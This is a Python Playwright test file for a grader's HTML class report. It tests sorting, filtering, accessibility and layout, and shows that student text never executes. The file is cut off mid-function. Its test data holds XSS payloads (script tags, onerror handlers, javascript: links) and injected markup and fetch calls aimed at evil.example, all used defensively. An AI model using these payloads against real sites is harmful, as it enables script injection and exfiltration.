"""The class report in a real browser: what it shows, how it is used, and that no text of a student's acts in it."""

from __future__ import annotations

import re
import shutil
from collections.abc import Callable, Iterator, Sequence
from dataclasses import replace
from pathlib import Path
from typing import Any

import pytest
from playwright.sync_api import Browser, BrowserContext, Dialog, Page, ViewportSize, expect, sync_playwright

from grader import i18n
from grader.model import Gradebook, Image, Level, Outcome, Result, Shared, Size, Status, Student, Submission
from grader.report import html, words
from tests.support.results import (
    ANSWER_KEY,
    CRASHED,
    HOSTILE,
    HOSTILE_UNGRADED,
    NO_IMAGE,
    PUBLISHED,
    SAMPLES,
    UNGRADED,
    outcomes,
    result,
)

PHONE: ViewportSize = {"width": 360, "height": 740}
MOST_BYTES = 15_000_000
SOON_MS = 2000

ATTACKS = (
    "<script>window.ran = 1</script>",
    "</script><script>window.ran = 1</script>",
    "<!--<script>",
    "-->]]>",
    "<img src=x onerror='window.ran = 1'>",
    "<svg onload=window.ran=1>",
    "javascript:window.ran=1",
    "\"'><a href=javascript:window.ran=1 onfocus=window.ran=1 autofocus>",
    "</title></style><style>*{display:none}</style>",
    "\\u003cscript>\\'\\\"\\",
    "{count} ${window.ran=1} $data $$",
    "\u202etxt.exe\u2066 \u2028window.ran=1\u2029 \ue000\ue001 \x00\x1b[31m",
    "__proto__",
)


@pytest.fixture(autouse=True)
def _english() -> Iterator[None]:
    i18n.use("en")
    yield
    i18n.use("en")


@pytest.fixture(scope="module")
def browser() -> Iterator[Browser]:
    chromium = shutil.which("chromium")
    assert chromium, "no chromium here: run tools/packages chromium"
    with sync_playwright() as playwright:
        browser = playwright.chromium.launch(executable_path=chromium, args=["--no-sandbox"])
        yield browser
        browser.close()


class Watched:
    """A page, and all that it should not do: load, complain, ask, run what a student wrote."""

    def __init__(self, context: BrowserContext, file: Path) -> None:
        self.file = file
        self.asked: list[str] = []
        self.complaints: list[str] = []
        self.dialogs: list[str] = []
        self.page = context.new_page()
        self.page.set_default_timeout(10_000)
        self.page.on("request", lambda request: self.asked.append(request.url))
        self.page.on("console", lambda message: self.complaints.append(message.text))
        self.page.on("pageerror", lambda error: self.complaints.append(str(error)))
        self.page.on("dialog", self.bothered)

    def bothered(self, dialog: Dialog) -> None:
        self.dialogs.append(dialog.message)
        dialog.dismiss()

    def show(self, text: str, address: str = "") -> Page:
        self.file.write_text(text, "utf-8")
        self.page.goto(self.file.as_uri() + address)
        return self.page

    def kept_quiet(self) -> None:
        assert {url.partition("#")[0] for url in self.asked} <= {self.file.as_uri()}
        assert self.complaints == []
        assert self.dialogs == []
        assert self.page.evaluate("window.ran") is None


Show = Callable[..., Page]


@pytest.fixture
def context(browser: Browser) -> Iterator[BrowserContext]:
    context = browser.new_context(viewport={"width": 1280, "height": 900}, offline=True)
    yield context
    context.close()


@pytest.fixture
def watched(context: BrowserContext, tmp_path: Path) -> Watched:
    return Watched(context, tmp_path / "report.html")


@pytest.fixture
def show(watched: Watched) -> Iterator[Show]:
    """Opens a report; at the end of every test it has asked for nothing and run nothing."""
    yield watched.show
    watched.kept_quiet()


def book(*results: Result, names: Sequence[str] = (), shared: tuple[Shared, ...] = ()) -> Gradebook:
    """A class of `results`."""
    given = [*names, *[""] * len(results)]
    students = [
        Student(each.submission.id, each.submission.target, name)
        for each, name in zip(results, given, strict=False)
    ]
    return Gradebook((), students, results, shared)


def of(sample: Result, id: str, **fields: Any) -> Result:
    """`sample` as the student `id`'s."""
    return replace(sample, submission=Submission(id, f"ghcr.io/{id}/zero-to-hero:v1.0", "image"), **fields)


CLASS = book(
    of(PUBLISHED, "zoe"),
    of(ANSWER_KEY, "adam10", max_score=20.0),
    of(UNGRADED, "bob"),
    of(CRASHED, "adam9", max_score=20.0),
    of(PUBLISHED, "eve", score=18.5),
    names=("Zoé Ärger", "Adam Ten", "Bob Petit", "Adam Nine", "Eve Éclair"),
    shared=(
        Shared(("zoe", "eve"), (f"sha256:{'1' * 64}",), 1_200_000, digest=f"sha256:{'d' * 64}"),
        Shared(("adam9", "zoe"), (f"sha256:{'2' * 64}", f"sha256:{'3' * 64}"), 34_000),
    ),
)


def listed(page: Page) -> list[str]:
    """The ids in the table, in its order."""
    return page.locator(".grid tbody th").all_inner_texts()


# The class at a glance


def test_the_class_is_counted_at_a_glance(show: Show) -> None:
    page = show(html.render_class(CLASS))

    header = page.locator("#class > header")
    expect(header.get_by_role("heading", level=1)).to_have_text(PUBLISHED.assignment.title)
    for name in ("5 Students", "2 passed", "2 failed", "1 ungraded"):
        expect(header.get_by_role("button", name=name, exact=True)).to_be_visible()
    expect(header).to_contain_text("15.75/20 Median score")  # of 3, 13, 18.5, 20
    expect(header).to_contain_text("2026-11-23 18:00:00 UTC")


def test_the_ungraded_come_first_with_the_reason_and_no_score(show: Show) -> None:
    page = show(html.render_class(CLASS))

    notice = page.get_by_role("region", name="ungraded")
    expect(notice).to_contain_text("this is not the submission's fault")
    expect(notice).to_contain_text("ghcr.io did not answer for 60 s while the image was pulled")
    expect(notice.get_by_role("link", name="bob (Bob Petit)")).to_be_visible()
    assert page.locator("#class section").first.get_attribute("aria-labelledby") == "ungraded"
    assert listed(page) == ["bob", "zoe", "adam10", "adam9", "eve"]
    row = page.get_by_role("row", name="bob")
    expect(row.get_by_role("cell", name="no score")).to_be_visible()
    assert not re.search(r"\b0\b", row.inner_text())


def test_causes_of_many_ungraded_are_told_once(show: Show) -> None:
    page = show(html.render_class(book(*(of(UNGRADED, f"s{i}") for i in range(30)))))

    notice = page.get_by_role("region", name="ungraded")
    expect(notice.get_by_text("ghcr.io did not answer")).to_have_count(1)
    expect(notice.get_by_role("link")).to_have_count(12)
    notice.get_by_role("button", name="Show 12 more").click()
    expect(notice.get_by_role("link")).to_have_count(24)
    expect(notice.get_by_role("link", name="s12", exact=True)).to_be_focused()


def test_scores_are_plotted_with_the_same_told_in_words(show: Show) -> None:
    page = show(html.render_class(CLASS))

    plot = page.get_by_role("img", name="Scores")
    expect(plot).to_have_accessible_description(
        "How many students have which score. from 3 to under 4: 1; from 13 to under 14: 1; "
        "from 18 to under 19: 1; 20 and more: 1"
    )
    assert plot.locator("rect.passed").count() == 2
    assert plot.locator("rect.failed").count() == 2
    region = page.get_by_role("region", name="Scores")
    expect(region).to_contain_text("Without a score, and not counted here: 1.")
    region.get_by_text("As a table").click()
    expect(region.get_by_role("row", name="from 18 to under 19")).to_have_text(
        re.compile("from 18 to under 19\\s*1\\s*0")
    )


def test_the_highest_bar_is_of_the_commonest_score(show: Show) -> None:
    results = [of(PUBLISHED, f"a{i}", score=20.0) for i in range(9)] + [of(PUBLISHED, "b", score=4.0)]
    page = show(html.render_class(book(*results)))

    bars = page.locator(".plot rect").all()
    heights = [float(bar.get_attribute("height") or 0) for bar in bars]
    assert len(heights) == 2
    assert heights[1] == pytest.approx(9 * heights[0])


def test_a_class_without_any_score_has_no_plot(show: Show) -> None:
    page = show(html.render_class(book(of(UNGRADED, "a"), of(UNGRADED, "b"))))

    expect(page.get_by_role("region", name="Scores")).to_contain_text("no score")
    expect(page.get_by_role("img", name="Scores")).to_have_count(0)
    assert "0/20" not in page.locator("body").inner_text()


def test_each_check_has_its_pass_rate_of_those_judged(show: Show) -> None:
    page = show(html.render_class(CLASS))

    region = page.get_by_role("region", name="Checks")
    rate = region.get_by_role("row", name="the engine reports the container healthy")
    # Two passed, one failed, one blocked; the ungraded one is in no share.
    assert rate.get_by_role("cell").all_inner_texts()[1:] == ["50%", "1", "1", "1"]
    skipped = region.get_by_role("row", name="the image can be pulled by anyone")
    assert skipped.get_by_role("cell").all_inner_texts()[1] == "100%"


def test_a_share_is_all_or_nothing_only_where_it_is(show: Show) -> None:
    unlike = [of(PUBLISHED, f"s{i}") for i in range(400)]
    failing = outcomes({"size": {"status": "failed"}})
    page = show(html.render_class(book(*unlike, of(PUBLISHED, "x", checks=failing))))

    rate = page.get_by_role("row", name="the image is under 100 MB")
    expect(rate.get_by_role("cell", name="99%")).to_be_visible()


def test_a_count_of_a_check_leads_to_its_students(show: Show) -> None:
    page = show(html.render_class(CLASS))

    page.get_by_role("button", name="1 · healthcheck: blocked").click()

    assert listed(page) == ["adam9"]
    expect(page.get_by_role("heading", name="Students")).to_be_focused()
    expect(page.get_by_label("Status")).to_have_value("blocked")


def test_a_verdicts_count_leads_to_its_students(show: Show) -> None:
    page = show(html.render_class(CLASS))

    page.get_by_role("button", name="2 failed", exact=True).click()

    assert listed(page) == ["adam10", "adam9"]


def test_what_submissions_share_is_listed_as_a_fact(show: Show) -> None:
    page = show(html.render_class(CLASS))

    region = page.get_by_role("region", name="What submissions share")
    expect(region).to_contain_text("never part of a verdict")
    same, layers = region.locator(".groups > li").all()
    expect(same).to_contain_text(f"The same image. Layers: 1, 1.2 MB.sha256:{'d' * 64}")
    assert same.get_by_role("link").all_inner_texts() == ["zoe (Zoé Ärger)", "eve (Eve Éclair)"]
    expect(layers).to_contain_text("The same layers. Layers: 2, 34.0 kB.")
    layers.get_by_text("Their digests").click()
    expect(layers.get_by_text(f"sha256:{'3' * 64}")).to_be_visible()


def test_a_class_that_shares_nothing_is_told_nothing(show: Show) -> None:
    page = show(html.render_class(replace(CLASS, shared=())))

    expect(page.get_by_role("region", name="What submissions share")).to_have_count(0)


# The table


def test_columns_sort_both_ways_and_say_so(show: Show) -> None:
    page = show(html.render_class(CLASS))
    student = page.get_by_role("columnheader", name="Student")

    student.get_by_role("button").click()
    assert listed(page) == ["adam9", "adam10", "bob", "eve", "zoe"]
    expect(student).to_have_attribute("aria-sort", "ascending")

    student.get_by_role("button").click()
    assert listed(page) == ["zoe", "eve", "bob", "adam10", "adam9"]
    expect(student).to_have_attribute("aria-sort", "descending")

    page.get_by_role("button", name="Name", exact=True).click()
    assert listed(page) == ["adam9", "adam10", "bob", "eve", "zoe"]
    assert page.locator("[aria-sort]").all_inner_texts() == ["Name"]

    page.get_by_role("button", name="Verdict", exact=True).click()
    assert listed(page) == ["bob", "adam10", "adam9", "zoe", "eve"]

    page.get_by_role("button", name="healthcheck", exact=True).click()
    assert listed(page) == ["bob", "adam10", "adam9", "zoe", "eve"]
    page.get_by_role("button", name="healthcheck", exact=True).click()
    assert listed(page) == ["zoe", "eve", "adam9", "adam10", "bob"]


@pytest.mark.parametrize("name", ["Score", "healthcheck"])
def test_a_header_shows_that_it_sorts_and_which_way(show: Show, name: str) -> None:
    page = show(html.render_class(CLASS))
    sort = page.get_by_role("button", name=name, exact=True)  # the sign is for the eye alone

    def sign() -> str:
        style = "node => getComputedStyle(node, '::after')"
        assert sort.evaluate(f"node => ({style})(node).display") != "none"
        assert sort.evaluate("node => getComputedStyle(node).transform") == "none"  # up is up
        return str(sort.evaluate(f"node => ({style})(node).content")).partition("/")[0].strip(' "')

    assert sign() == "⇅"
    sort.press("Enter")
    assert sign() == "▲"
    sort.press(" ")
    assert sign() == "▼"
    page.get_by_role("button", name="Verdict", exact=True).click()
    assert sign() == "⇅"


def test_who_has_no_score_comes_before_any_score(show: Show) -> None:
    page = show(html.render_class(CLASS))
    score = page.get_by_role("button", name="Score", exact=True)

    score.click()
    assert listed(page) == ["bob", "adam9", "adam10", "eve", "zoe"]
    score.click()
    assert listed(page) == ["bob", "zoe", "eve", "adam10", "adam9"]


def test_filters_narrow_the_table_together(show: Show) -> None:
    page = show(html.render_class(CLASS))
    status = page.get_by_role("status")
    expect(status).to_have_text("Students: 5 of 5")

    page.get_by_label("Search by name").fill("ECLAIR")
    assert listed(page) == ["eve"]
    page.get_by_label("Search by name").fill("adam")
    assert listed(page) == ["adam10", "adam9"]
    expect(status).to_have_text("Students: 2 of 5")

    page.get_by_label("Check", exact=True).select_option(label="healthcheck")
    page.get_by_label("Status").select_option("failed")
    assert listed(page) == ["adam10"]
    page.get_by_label("Verdict").select_option("passed")
    assert listed(page) == []
    expect(status).to_have_text("Students: 0 of 5")

    page.get_by_role("button", name="Show all").click()
    assert len(listed(page)) == 5
    page.get_by_label("Status").select_option("blocked")  # of any check
    assert listed(page) == ["adam10", "adam9"]


def test_a_cell_has_a_mark_and_a_word(show: Show) -> None:
    page = show(html.render_class(CLASS))

    row = page.get_by_role("row", name="adam10")
    cell = row.get_by_title("healthcheck: failed")
    expect(cell).to_have_text("failed")
    expect(cell.locator("svg")).to_be_visible()
    expect(row.get_by_title("no-debugger: advice")).to_have_text("advice")


def test_rows_beyond_the_first_come_when_asked_for(show: Show) -> None:
    page = show(html.render_class(book(*(of(PUBLISHED, f"s{i:03}") for i in range(250)))))
    expect(page.get_by_role("status")).to_have_text("Students: 250 of 250, the first 100 listed")

    page.get_by_role("button", name="Show 100 more").click()
    expect(page.get_by_role("link", name="s100")).to_be_focused()
    page.get_by_role("button", name="Show 50 more").click()

    assert listed(page) == [f"s{i:03}" for i in range(250)]
    expect(page.get_by_role("status")).to_have_text("Students: 250 of 250")
    expect(page.get_by_role("button", name=re.compile("Show .* more"))).to_have_count(0)
    expect(page.locator(".grid")).to_have_attribute("aria-rowcount", "251")
    assert page.locator(".grid tbody tr").last.get_attribute("aria-rowindex") == "251"


def test_results_of_other_checks_leave_blanks(show: Show) -> None:
    fewer = of(PUBLISHED, "fewer", checks=PUBLISHED.checks[:2])
    other = Outcome("only-here", "only here", "advice", "passed")
    page = show(html.render_class(book(fewer, of(PUBLISHED, "more", checks=(*PUBLISHED.checks, other)))))

    cells = page.get_by_role("row", name="fewer").get_by_role("cell").all_inner_texts()
    assert cells[2:] == ["passed", "skipped", *[""] * 15]


# A student


def test_a_students_page_tells_every_check_the_digest_and_when(show: Show) -> None:
    told = of(ANSWER_KEY, "adam", image=PUBLISHED.image)
    page = show(html.render_class(book(told, of(PUBLISHED, "eve"), names=("Adam Ten",))))

    page.get_by_role("link", name="adam", exact=True).click()

    expect(page.get_by_role("heading", level=1)).to_have_text("Adam Ten")
    expect(page).to_have_title(f"Adam Ten · {told.assignment.title}")
    text = page.locator("#student").inner_text()
    for check in told.checks:
        message, hint = words.seen(told, check)
        item = page.locator("#student .outcomes > li").filter(has=page.locator(f"code:text-is('{check.id}')"))
        expect(item).to_contain_text(check.title)
        expect(item).to_contain_text(words.word(check))
        for line in (*message.splitlines(), hint, words.points(check)):
            expect(item).to_contain_text(line)
    assert "not judged: blocked by healthcheck" in text
    assert told.image
    for name, fact in (
        ("Submission", told.submission.target),
        ("Digest", told.image.digest),
        ("Reference", told.image.reference),
        ("Image", told.image.id),
        ("Graded at", "2026-11-23 18:00:00 UTC"),
        ("Engine", "docker 20.10.24"),
    ):
        expect(page.locator(f"dt:text-is('{name}') + dd")).to_have_text(fact or "")
    assert "13/17" in text


def test_an_ungraded_students_page_says_why(show: Show) -> None:
    page = show(html.render_class(CLASS), "#s/bob")

    why = page.get_by_role("region", name="Why there is no grade")
    expect(why).to_contain_text("ghcr.io did not answer for 60 s")
    expect(why).to_contain_text("Try again later")
    expect(page.locator("#student > header")).to_contain_text("no score")


def test_who_was_never_graded_has_no_date(show: Show) -> None:
    page = show(html.render([of(UNGRADED, "bob", started_at="1970-01-01T00:00:00Z")]))

    expect(page.locator("body")).not_to_contain_text("1970")


def test_a_students_page_tells_with_whom_it_shares(show: Show) -> None:
    page = show(html.render_class(CLASS), "#s/zoe")

    region = page.get_by_role("region", name="What submissions share")
    assert region.get_by_role("link").all_inner_texts() == ["eve (Eve Éclair)", "adam9 (Adam Nine)"]


def test_back_escape_and_the_link_return_to_the_class_as_it_was_left(show: Show) -> None:
    page = show(html.render_class(book(*(of(PUBLISHED, f"s{i:03}") for i in range(80)))))
    page.get_by_label("Search by name").fill("s0")
    page.get_by_role("button", name="Student", exact=True).click()
    page.get_by_role("button", name="Student", exact=True).click()
    opener = page.get_by_role("link", name="s040")

    def leave() -> None:
        opener.click()
        expect(page.get_by_role("heading", level=1, name="s040")).to_be_focused()
        expect(page.locator("#class")).to_be_hidden()
        assert page.url.endswith("#s/s040")

    for go_back in (
        lambda: page.keyboard.press("Escape"),
        lambda: page.get_by_role("link", name="All students").click(),
        page.go_back,
    ):
        opener.scroll_into_view_if_needed()
        place = page.evaluate("[scrollY, document.querySelector('.scroller').scrollTop]")
        assert min(place) > 0
        leave()
        go_back()
        expect(page.locator("#student")).to_be_hidden()
        expect(opener).to_be_focused()
        assert page.evaluate("[scrollY, document.querySelector('.scroller').scrollTop]") == place
        assert listed(page)[0] == "s079"
    page.go_forward()
    expect(page.get_by_role("heading", level=1, name="s040")).to_be_visible()


def test_the_next_student_is_the_next_in_the_table(show: Show) -> None:
    page = show(html.render_class(CLASS))
    page.get_by_label("Search by name").fill("adam")
    page.get_by_role("link", name="adam10", exact=True).click()

    expect(page.get_by_role("link", name="Previous")).to_have_count(0)
    page.get_by_role("link", name="Next").click()
    expect(page.get_by_role("heading", level=1)).to_have_text("Adam Nine")
    expect(page.get_by_role("heading", level=1)).to_be_focused()
    page.keyboard.press("Escape")
    expect(page.get_by_role("link", name="adam10", exact=True)).to_be_focused()


@pytest.mark.parametrize("id", ["a b/c#d?e%f", "élève 你好", "%", "__proto__", "a'\"<>&"])
def test_every_id_has_an_address(show: Show, id: str) -> None:
    page = show(html.render_class(book(of(PUBLISHED, id), of(CRASHED, "other"))))
    page.get_by_role("row").filter(has_text=id).get_by_role("link").click()
    expect(page.get_by_role("heading", level=1)).to_have_text(id)

    page.reload()

    expect(page.get_by_role("heading", level=1)).to_have_text(id)


def test_two_of_one_id_are_told_apart(show: Show) -> None:
    page = show(html.render([NO_IMAGE, replace(CRASHED, submission=NO_IMAGE.submission)]))

    page.locator(".grid tbody a").last.click()
    expect(page.locator("#student")).to_contain_text("ModuleNotFoundError")
    page.keyboard.press("Escape")
    page.locator(".grid tbody a").first.click()
    expect(page.locator("#student")).to_contain_text("dockerfile parse error")


@pytest.mark.parametrize("address", ["#s/nobody", "#s/%E0%A4%A", "#s/constructor"])
def test_an_unknown_address_shows_the_class(show: Show, address: str) -> None:
    page = show(html.render_class(CLASS), address)

    expect(page.get_by_role("heading", level=1)).to_have_text(PUBLISHED.assignment.title)


@pytest.mark.parametrize("sample", SAMPLES.values(), ids=SAMPLES.keys())
def test_one_result_alone_is_opened_at_once(show: Show, sample: Result) -> None:
    page = show(html.render([sample]))

    expect(page.locator("#student .outcomes > li")).to_have_count(len(sample.checks))
    expect(page.locator("#class")).to_be_hidden()
    expect(page.get_by_role("link")).to_have_count(0)
    page.keyboard.press("Escape")
    expect(page.locator("#student .verdict")).to_contain_text(words.score(sample))


def test_no_result_at_all_is_said(show: Show) -> None:
    expect(show(html.render([])).locator("body")).to_contain_text("Nothing has been graded yet.")


# Hostile text


def hostile(attack: str) -> Result:
    """`attack` wherever a student's text could stand."""
    ways: list[tuple[Level, Status]] = [
        ("required", "failed"),
        ("required", "error"),
        ("required", "blocked"),
        ("bonus", "failed"),
        ("advice", "passed"),
    ]
    checks = tuple(
        Outcome(f"{way}{attack}", attack, *told, 0, 1, attack, attack, attack, {attack: attack})
        for way, told in enumerate(ways)
    )
    return replace(
        PUBLISHED,
        assignment=PUBLISHED.assignment._replace(title=attack),
        submission=Submission(attack, attack, "image"),
        image=Image(attack, attack, attack, attack, Size(1, 2)),
        checks=checks,
        verdict="ungraded",
        score=None,
    )


@pytest.mark.parametrize("attack", ATTACKS)
def test_what_a_student_wrote_is_shown_as_text_and_runs_nothing(show: Show, attack: str) -> None:
    one = hostile(attack)
    student = Student(attack, attack, attack)
    class_ = Gradebook(
        (attack,),
        [student, replace(student, id="other", name="Other")],
        [one, of(PUBLISHED, "other")],
        (Shared((attack, "other"), (attack,), 5, attack),),
    )
    page = show(html.render_class(class_))
    told = words.line(attack)

    expect(page.get_by_role("region", name="ungraded")).to_contain_text(told)
    expect(page.get_by_role("region", name="What submissions share")).to_contain_text(told)
    page.get_by_label("Search by name").fill(told)
    for button in page.locator(".grid thead button").all():
        button.click()
    page.locator(".grid tbody a").first.click()

    expect(page.get_by_role("heading", level=1)).to_have_text(told)
    expect(page.locator(".outcomes > li").first).to_contain_text(told)
    assert page.locator("main :is(script, img, iframe, style, a[href^=javascript])").count() == 0
    assert page.locator("script").count() == 2
    assert page.title().startswith(told)


def test_texts_of_100_kB_neither_break_the_page_nor_fill_it(show: Show) -> None:
    checks = tuple(replace(check, message="<b>" * 33_000, hint="x" * 100_000) for check in ANSWER_KEY.checks)
    text = html.render_class(book(of(ANSWER_KEY, "a", checks=checks), HOSTILE, HOSTILE_UNGRADED))
    assert len(text) < 1_000_000
    page = show(text, "#s/a")

    assert page.evaluate("document.documentElement.scrollWidth <= innerWidth")
    assert page.locator("#student").inner_text().count("<b>") > 1000


def test_a_message_is_shown_whole(show: Show) -> None:
    long = "\n".join(f"line {i} of its log" for i in range(150))
    checks = outcomes({"starts": {"status": "failed", "message": long, "hint": long}})
    page = show(html.render([of(CRASHED, "a", checks=checks)]))

    assert page.locator("#student").inner_text().count("of its log") == 300


def test_markup_that_gets_into_the_page_is_run_by_no_browser(watched: Watched) -> None:
    injected = (
        "<script>window.ran = 1</script><img src=x onerror='window.ran = 1'><style>main{display:none}</style>"
        "<a id=link href='javascript:void(window.ran = 1)'>x</a><base href='https://evil.example/'>"
        "<img src='https://evil.example/i.png'><iframe srcdoc='<script>parent.ran = 1</script>'></iframe>"
        "<form id=form action='https://evil.example'></form>"
    )
    page = watched.show(html.render_class(CLASS).replace("<body>", f"<body>{injected}"))

    page.locator("#link").click()

    expect(page.locator("#class")).to_be_visible()
    assert page.evaluate("window.ran") is None
    assert page.evaluate("document.baseURI").startswith("file:")
    refused = " ".join(watched.complaints)
    for rule in ("script-src", "style-src", "img-src", "base-uri"):
        assert rule in refused
    with page.expect_console_message(lambda message: "form-action" in message.text):
        page.evaluate("document.getElementById('form').submit()")


@pytest.mark.parametrize(
    "attempt",
    [
        "document.body.innerHTML = '<p>x</p>'",
        "document.body.insertAdjacentHTML('beforeend', '<p>x</p>')",
        "document.body.append(Object.assign(document.createElement('script'), {text: 'window.ran = 1'}))",
        "fetch('https://evil.example/')",
        "document.body.setAttribute('onclick', 'window.ran = 1')",
    ],
)
def test_not_even_a_script_of_the_page_could_run_text_or_send_it(watched: Watched, attempt: str) -> None:
    page = watched.show(html.render_class(CLASS))

    failed = page.evaluate(
        f"(async () => {{ {attempt.replace('fetch', 'await fetch')} }})().then(() => '', String)"
    )

    assert "TypeError" in failed
    assert page.evaluate("window.ran") is None


# For everybody


def test_it_is_used_with_the_keyboard_alone(show: Show) -> None:
    page = show(html.render_class(CLASS))

    def tab_to(name: str) -> None:
        for _step in range(80):
            page.keyboard.press("Tab")
            if page.evaluate("document.activeElement.textContent") == name:
                return
        pytest.fail(f"{name} is not reached")

    page.get_by_label("Search by name").focus()
    page.keyboard.type("adam")
    tab_to("Score")
    page.keyboard.press("Enter")
    assert listed(page) == ["adam9", "adam10"]
    expect(page.get_by_role("button", name="Score")).to_be_focused()
    tab_to("adam9")
    page.keyboard.press("Enter")
    expect(page.get_by_role("heading", level=1)).to_have_text("Adam Nine")
    tab_to("zoe (Zoé Ärger)")
    page.keyboard.press("Escape")
    expect(page.get_by_role("link", name="adam9", exact=True)).to_be_focused()


@pytest.mark.parametrize("address", ["", "#s/bob", "#s/zoe"])
def test_everything_that_can_be_used_has_a_name(show: Show, address: str) -> None:
    page = show(html.render_class(CLASS), address)

    tree = page.locator("body").aria_snapshot()

    assert re.search('- (button|link) "', tree)
    nameless = r"^\s*- (button|link|searchbox|textbox|combobox|region|img|columnheader|rowheader|navigation)\b(?! \")"
    assert re.findall(nameless, tree, re.MULTILINE) == []


@pytest.mark.parametrize("address", ["", "#s/adam10"])
def test_on_a_phone_only_the_table_scrolls_sideways(browser: Browser, tmp_path: Path, address: str) -> None:
    context = browser.new_context(viewport=PHONE, is_mobile=True, has_touch=True, offline=True)
    text = html.render_class(replace(CLASS, results=[*CLASS.results[:4], HOSTILE]))
    page = Watched(context, tmp_path / "report.html").show(text, address)

    assert page.evaluate("[innerWidth, document.documentElement.scrollWidth]") == [360, 360]
    for size in page.locator("main:visible :is(h1, p, h3, dd)").evaluate_all(
        "nodes => nodes.map((node) => parseFloat(getComputedStyle(node).fontSize))"
    ):
        assert size >= 13
    if not address:
        region = page.get_by_role("region", name="Students").get_by_role("region", name="Students")
        expect(region).to_have_attribute("tabindex", "0")
        region.focus()
        region.evaluate("node => node.onscroll = () => node.dataset.left = Math.sign(node.scrollLeft)")
        page.keyboard.press("ArrowRight")
        expect(region).to_have_attribute("data-left", "1")


@pytest.mark.parametrize("width", [390, 360])
def test_on_a_phone_the_table_opens_on_names_and_verdicts_and_its_headers_are_read(
    browser: Browser, tmp_path: Path, width: int
) -> None:
    context = browser.new_context(
        viewport={"width": width, "height": 844}, is_mobile=True, has_touch=True, offline=True
    )
    results = [of(PUBLISHED, "marie-antoinette.de-la-tour@example.org"), of(UNGRADED, "bob")]
    text = html.render_class(book(*results, names=("Marie-Antoinette de la Tour d'Auvergne", "Bob")))
    page = Watched(context, tmp_path / "report.html").show(text)

    region = page.locator(".scroller")
    end = region.evaluate("node => node.getBoundingClientRect().right")
    for cell in page.locator(".grid :is(.name, .chip)").all():
        box = cell.bounding_box()
        assert box
        assert box["width"] > 20
        assert box["x"] + box["width"] <= end
    head = page.locator(".grid thead tr").bounding_box()
    assert head
    assert head["height"] < 80  # not the height of words that stand upright, beyond the edge
    last = page.get_by_role("columnheader").last.locator("span")
    assert last.evaluate("node => getComputedStyle(node).writingMode") == "horizontal-tb"
    last.scroll_into_view_if_needed()
    expect(last).to_be_in_viewport(ratio=1)
    assert page.evaluate("document.documentElement.scrollWidth") == width


# The contrast of every text with what is behind it, as WCAG 2 counts it.
CONTRASTS = """() => {
  const context = new OffscreenCanvas(1, 1).getContext("2d", { willReadFrequently: true });
  const flat = (...colours) => {
    for (const colour of colours) { context.fillStyle = colour; context.fillRect(0, 0, 1, 1); }
    return [...context.getImageData(0, 0, 1, 1).data].slice(0, 3);
  };
  const light = (rgb) => rgb
    .map((part) => part / 255)
    .map((part) => (part <= 0.04045 ? part / 12.92 : ((part + 0.055) / 1.055) ** 2.4))
    .reduce((sum, part, i) => sum + part * [0.2126, 0.7152, 0.0722][i], 0);
  const behind = (node) => node ? [...behind(node.parentElement), getComputedStyle(node).backgroundColor] : [];
  const drawn = [...document.querySelectorAll("main *")].filter((node) => node.checkVisibility() && (
    node.matches(".mark") || [...node.childNodes].some((child) => child.nodeType === 3 && child.data.trim())));
  return drawn.map((node) => {
    const ground = behind(node), style = getComputedStyle(node);
    const colour = node instanceof SVGElement && !node.matches(".mark") ? style.fill : style.color;
    const [one, two] = [light(flat(...ground)), light(flat(...ground, colour))].sort();
    return [(two + 0.05) / (one + 0.05), node.getAttribute("class") + " " + node.textContent.slice(0, 40)];
  });
}"""


@pytest.mark.parametrize("scheme", ["light", "dark"])
@pytest.mark.parametrize("address", ["", "#s/bob", "#s/adam10"])
def test_every_text_stands_out_in_light_and_in_dark(
    show: Show, watched: Watched, address: str, scheme: Any
) -> None:
    watched.page.emulate_media(color_scheme=scheme)
    page = show(html.render_class(CLASS), address)

    contrasts = page.evaluate(CONTRASTS)

    assert len(contrasts) > 30
    assert [each for each in contrasts if each[0] < 4.5] == []
    ground = page.evaluate("getComputedStyle(document.body).backgroundColor")
    assert (int(re.findall(r"\d+", ground)[0]) < 128) == (scheme == "dark")


def test_it_speaks_the_language_in_use(show: Show) -> None:
    i18n.use("fr")
    page = show(html.render_class(CLASS))

    expect(page.locator("html")).to_have_attribute("lang", "fr")
    expect(page.get_by_role("region", name="non noté")).to_be_visible()
    expect(page.get_by_role("row", name="adam10").get_by_title("healthcheck: échoué")).to_be_visible()


def test_it_prints_on_white_without_its_controls(show: Show, watched: Watched) -> None:
    watched.page.emulate_media(color_scheme="dark", media="print")
    page = show(html.render_class(CLASS))

    expect(page.get_by_label("Search by name")).to_be_hidden()
    assert page.evaluate("getComputedStyle(document.body).color") == "rgb(27, 31, 36)"


# 10,000 students


def large(count: int) -> Gradebook:
    """A class where hardly two messages are the same."""
    students, results = [], []
    for i in range(count):
        id = f"student-{i:05}"
        digest, config = f"sha256:{(i + 1) * 7919:064x}", f"sha256:{(i + 1) * 104729:064x}"
        place = f"ghcr.io/{id}/zero-to-hero"
        megabytes = (
            f"{45 + i % 977 / 10:.1f} MB compressed, as a registry stores it; {124 + i % 1999 / 10:.1f} MB"
        )
        route = f'answers 200 with {{"status": "healthy", "by": "{id}"}}'
        told: dict[str, dict[str, Any]] = {
            "published": {"message": f"Public: {place}:v1.0 is {digest}."},
            "build": {"status": "skipped", "message": "There is nothing to build: an image was given."},
            "platform": {"message": "Made for linux/amd64."},
            "size": {"message": f"{megabytes} unpacked; must be under 100 MB compressed."},
            "starts": {"message": f"Up, and answering {i % 50 / 10:.1f} s after its start."},
            "greeting": {"message": f"GET / answers 200: from zero to hero, says {id}"},
            "health-endpoint": {"message": f"GET /health {route}"},
            "healthcheck": {
                "message": f"healthy: CMD python /app/probe.py succeeded in {i % 100 / 100:.2f} s."
            },
            "non-root": {"message": f"{i % 7 + 1} process(es), none as root (uid {1000 + i % 99})."},
            "latest-tag": {"message": f"{place}:latest is the same image."},
            "graceful-stop": {"message": f"Ended {i % 90 / 10:.1f} s after SIGTERM."},
        }
        fields: dict[str, Any] = {"verdict": "passed", "score": 20.0, "max_score": 20.0}
        if i % 5 == 0:
            told["healthcheck"] = {
                "status": "failed",
                "message": f"curl: not found in this image, so the health check of {id} can never succeed.\n"
                * 4,
                "hint": "Slim images hold few commands (neither curl nor wget). Probe with python instead.",
            }
            fields |= {"verdict": "failed", "score": 16.0}
        if i % 7 == 0:
            log = [f'  File "/app/{id}/module_{n}.py", line {i + n}, in load' for n in range(20)]
            told["starts"] = {
                "status": "failed",
                "message": "\n".join(["The container ended by itself; its last words:", *log]),
